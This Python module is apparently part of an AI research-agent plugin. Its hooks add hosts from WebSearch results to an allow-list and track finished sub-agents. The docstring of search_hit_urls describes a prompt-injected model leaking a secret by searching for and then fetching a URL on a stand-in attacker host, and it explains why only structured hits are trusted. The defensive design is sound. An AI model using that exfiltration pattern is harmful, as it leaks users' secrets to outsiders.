"""PostToolUse and PostToolUseFailure: what the run learns from a call that ran.

WebSearch results put their hosts on the run's allow-list — from the structured hits only —
and in the guard's ledger (what each round's searches listed: runstate.round_searches), and an
agent's completion (a failed one too) frees its slot under the fan-out ceiling. These hooks
cannot block and fail open: a missed record only makes later checks stricter or less generous
(fewer hosts, more agents counted in flight, a round without its searches not counted; a
dispatch stops counting after an hour).
"""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path
from typing import Any

from deep_research.brief.layout import Brief
from deep_research.errors import TargetRefused
from deep_research.fetch.hosts import add_hosts
from deep_research.plugin.guard.budgets import append
from deep_research.plugin.runstate import load_active, locked
from deep_research.urls import host_of

AGENT_TOOLS = frozenset({"Agent", "Task"})
#: A search lists ten or so hits; past these bounds a response is read no further (a hook
#: that reads forever records nothing, and the allow-list stays narrower).
MAX_HITS = 200
MAX_NODES = 20_000


def record(event: Mapping[str, Any], state: Path) -> None:
    run = load_active(state)
    if run is None or not run.guards(event.get("session_id")):
        return  # another session's searches and agents are not the run's
    tool = str(event.get("tool_name") or "")
    brief = Brief(run.brief)
    if tool in AGENT_TOOLS:
        with locked(brief):
            append(brief, {"event": "done", "id": str(event.get("tool_use_id") or "")})
    elif tool == "WebSearch":
        found = search_hit_urls(event.get("tool_response"))
        hosts = sorted({host for url in found if (host := host_of(url)) and _public(host)})
        with locked(brief):
            if hosts:
                add_hosts(brief, hosts)
            append(brief, listed_row(str(event.get("tool_use_id") or ""), hosts))


def listed_row(tool_use_id: str, hosts: list[str]) -> dict[str, Any]:
    """The ledger row of the hosts one search listed (none: it listed nothing)."""
    return {"event": "listed", "id": tool_use_id, "hosts": hosts}


def search_hit_urls(response: Any) -> list[str]:
    """The ``url`` fields of the structured hits under a WebSearch response's ``results``.

    Only hits count. The response also echoes the model's own ``query`` and carries the search
    model's prose, and a URL written into either would otherwise open its host: a prompt-injected
    model could search for ``https://attacker.example/?s=<secret>`` and then fetch it. An unknown
    shape yields nothing, which only keeps the allow-list narrower.
    """
    urls: list[str] = []
    stack: list[Any] = [response.get("results")] if isinstance(response, dict) else []
    visited = 0
    # Depth-first, without recursion (a deeply nested response costs no stack), within bounds.
    while stack and len(urls) < MAX_HITS and visited < MAX_NODES:
        node = stack.pop()
        visited += 1
        if isinstance(node, dict):
            url = node.get("url")
            if isinstance(url, str):
                urls.append(url)
            stack.extend(reversed(list(node.values())))
        elif isinstance(node, list):
            stack.extend(reversed(node))
        # A string is prose: any URL in it is the writer's, not the search engine's.
    return urls


def _public(host: str) -> bool:
    from deep_research.fetch.netpolicy import NetPolicy, check_host

    try:
        check_host(host, NetPolicy())
    except TargetRefused:
        return False
    return True
